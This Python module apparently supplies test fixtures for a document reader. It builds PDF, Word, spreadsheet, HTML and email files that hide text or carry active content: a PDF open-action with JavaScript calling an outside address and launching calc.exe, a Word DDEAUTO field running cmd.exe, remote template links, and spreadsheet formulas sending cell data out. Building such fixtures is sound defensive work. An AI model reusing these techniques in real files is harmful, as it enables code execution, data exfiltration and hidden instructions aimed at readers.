"""Files of each format that hide words, or would run or fetch something: made, and opened by nothing but a reader."""

from __future__ import annotations

import io
import re
from collections.abc import Callable, Sequence
from email.message import EmailMessage
from html import escape
from typing import Any

import docx
import openpyxl
import pypdfium2
from docx.opc.constants import RELATIONSHIP_TYPE
from docx.oxml import parse_xml
from docx.oxml.ns import nsdecls
from docx.shared import Pt, RGBColor
from openpyxl.comments import Comment
from PIL import Image
from reportlab.lib.pagesizes import letter
from reportlab.lib.utils import ImageReader, simpleSplit
from reportlab.pdfgen.canvas import Canvas

OUTSIDE = "http://198.51.100.7/seen"
"""An address of a range that is kept for documentation (RFC 5737): whatever asked it would be seen to ask."""
_LEFT, _TOP, _LINE, _WIDTH = 72.0, 720.0, 15.0, 460.0


def pdf(cover: Sequence[str], draw: Callable[[Canvas], None] = lambda _: None) -> bytes:
    """A page with the paragraphs of ``cover``, on which ``draw`` does the rest."""
    buffer = io.BytesIO()
    canvas = Canvas(buffer, pagesize=letter, invariant=1)
    write(canvas, cover, _TOP)
    draw(canvas)
    canvas.showPage()
    canvas.save()
    return buffer.getvalue()


def write(canvas: Canvas, paragraphs: Sequence[str], top: float, left: float = _LEFT, size: float = 11) -> None:
    """Draws the paragraphs from ``top`` downwards, in points."""
    canvas.setFont("Helvetica", size)
    for paragraph in paragraphs:
        for line in simpleSplit(paragraph, "Helvetica", max(size, 6), _WIDTH):
            canvas.drawString(left, top, line)
            top -= _LINE
        top -= _LINE


def white(words: str) -> Callable[[Canvas], None]:
    def draw(canvas: Canvas) -> None:
        canvas.setFillColorRGB(1, 1, 1)
        write(canvas, [words], 400)

    return draw


def tiny(words: str) -> Callable[[Canvas], None]:
    return lambda canvas: write(canvas, [words], 400, size=0.5)


def off_page(words: str) -> Callable[[Canvas], None]:
    return lambda canvas: write(canvas, [words], 400, left=2000)


def covered(words: str) -> Callable[[Canvas], None]:
    """The words, and an image over them."""

    def draw(canvas: Canvas) -> None:
        write(canvas, [words], 400)
        canvas.drawImage(ImageReader(Image.new("RGB", (8, 8), "navy")), 60, 340, 500, 75)

    return draw


def with_properties(words: str) -> Callable[[Canvas], None]:
    def draw(canvas: Canvas) -> None:
        canvas.setSubject(words)
        canvas.setKeywords(words)

    return draw


def pinned(words: str) -> Callable[[Canvas], None]:
    return lambda canvas: canvas.textAnnotation(words, (100, 100, 120, 120))


def running_pdf(cover: Sequence[str]) -> bytes:
    """A PDF file with a script that starts when it is opened, a program to start, and an attached file."""
    file = pypdfium2.PdfDocument(pdf(cover))
    file.new_attachment("invoice.exe").set_data(b"MZ not a program")
    out = io.BytesIO()
    file.save(out)
    data = out.getvalue()
    action = f"<< /S /JavaScript /JS (app.launchURL\\('{OUTSIDE}'\\)) /Next << /S /Launch /F (calc.exe) >> >>"
    return _opening(data, action.encode())


def _opening(data: bytes, action: bytes) -> bytes:
    """The file with an action that is done when it is opened, by an update appended to it (ISO 32000-1, 7.5.6)."""
    trailer = data.rindex(b"trailer")
    root = re.search(rb"/Root\s+(\d+)\s+0\s+R", data[trailer:])
    size = re.search(rb"/Size\s+(\d+)", data[trailer:])
    before = data[data.rindex(b"startxref") + 9 :].split()[0]
    assert root is not None
    assert size is not None
    begin = data.index(b"%s 0 obj" % root[1])
    catalog = data[begin : data.index(b"endobj", begin)]
    catalog = catalog.replace(b"<<", b"<< /OpenAction %s" % action, 1) + b"endobj\n"
    at = len(data) + 1
    table = at + len(catalog)
    rest = b"xref\n%s 1\n%010d 00000 n \ntrailer\n<< /Size %s /Root %s 0 R /Prev %s >>\nstartxref\n%d\n%%%%EOF\n"
    return data + b"\n" + catalog + rest % (root[1], at, size[1], root[1], before, table)


def word(cover: Sequence[str], fill: Callable[[Any], None] = lambda _: None) -> bytes:
    """A Word document of the paragraphs of ``cover``, to which ``fill`` does the rest."""
    document = docx.Document()
    for paragraph in cover:
        document.add_paragraph(paragraph)
    fill(document)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def white_run(words: str) -> Callable[[Any], None]:
    def fill(document: Any) -> None:
        document.add_paragraph().add_run(words).font.color.rgb = RGBColor(0xFE, 0xFE, 0xFE)

    return fill


def tiny_run(words: str) -> Callable[[Any], None]:
    def fill(document: Any) -> None:
        document.add_paragraph().add_run(words).font.size = Pt(1)

    return fill


def deleted_run(words: str) -> Callable[[Any], None]:
    def fill(document: Any) -> None:
        document.add_paragraph("The parties have agreed to this wording.")._p.append(
            parse_xml(
                f'<w:del {nsdecls("w")} w:id="9" w:author="x"><w:r><w:delText>{escape(words)}</w:delText></w:r></w:del>'
            )
        )

    return fill


def commented(words: str) -> Callable[[Any], None]:
    def fill(document: Any) -> None:
        document.add_comment(document.paragraphs[0].runs, text=words, author="Reviewer")

    return fill


def described_picture(words: str) -> Callable[[Any], None]:
    def fill(document: Any) -> None:
        picture = io.BytesIO()
        Image.new("RGB", (8, 8), "gray").save(picture, "PNG")
        picture.seek(0)
        document.add_picture(picture)._inline.docPr.set("descr", words)

    return fill


def with_core_properties(words: str) -> Callable[[Any], None]:
    def fill(document: Any) -> None:
        document.core_properties.subject = words
        document.core_properties.comments = words

    return fill


def reaching_out(document: Any) -> None:
    """A remote template, a linked object, a remote picture, and a field that starts a program."""
    part = document.part
    template = RELATIONSHIP_TYPE.STYLES.replace("styles", "attachedTemplate")
    part._settings_part.relate_to(f"{OUTSIDE}/template.dotm", template, is_external=True)
    part.relate_to(f"{OUTSIDE}/object.bin", RELATIONSHIP_TYPE.OLE_OBJECT, is_external=True)
    part.relate_to(f"{OUTSIDE}/pixel.png", RELATIONSHIP_TYPE.IMAGE, is_external=True)
    field = 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"'
    document.add_paragraph()._p.append(
        parse_xml(f"<w:r {nsdecls('w')}><w:instrText>{escape(field, quote=False)}</w:instrText></w:r>")
    )


def sheet(rows: Sequence[Sequence[str]], fill: Callable[[Any], None] = lambda _: None) -> bytes:
    """A workbook whose first sheet has ``rows``."""
    book = openpyxl.Workbook()
    book.active.title = "Papers"
    for row in rows:
        book.active.append(list(row))
    fill(book)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def noted(words: str) -> Callable[[Any], None]:
    def fill(book: Any) -> None:
        book.active["A2"].comment = Comment(words, "Reviewer")

    return fill


def hidden_places(words: str) -> Callable[[Any], None]:
    """The words in a hidden row, a hidden column and a hidden sheet."""

    def fill(book: Any) -> None:
        book.active["A9"] = words
        book.active.row_dimensions[9].hidden = True
        book.active["H1"] = words
        book.active.column_dimensions["H"].hidden = True
        book.create_sheet("Notes")["A1"] = words
        book["Notes"].sheet_state = "hidden"

    return fill


def formulas(book: Any) -> None:
    book.active["A8"] = f'=HYPERLINK("{OUTSIDE}?"&A1,"Open")'
    book.active["B8"] = f'=WEBSERVICE("{OUTSIDE}")'
    book.active["C8"] = "=cmd|'/C calc'!A0"


def page(cover: Sequence[str], inside: str = "", head: str = "") -> bytes:
    """A web page of the paragraphs of ``cover`` with more in its body and head."""
    body = "".join(f"<p>{escape(paragraph)}</p>" for paragraph in cover)
    return f"<!doctype html><html><head>{head}</head><body>{body}{inside}</body></html>".encode()


def mail(cover: Sequence[str], html: str) -> bytes:
    """A message whose only body is HTML."""
    message = EmailMessage()
    message["From"], message["To"] = "counterparty@example.com", "desk@example.com"
    message["Subject"], message["Date"] = cover[0], "Mon, 06 Jan 2020 10:00:00 +0000"
    message.set_content(page(cover, html).decode(), subtype="html")
    return message.as_bytes()
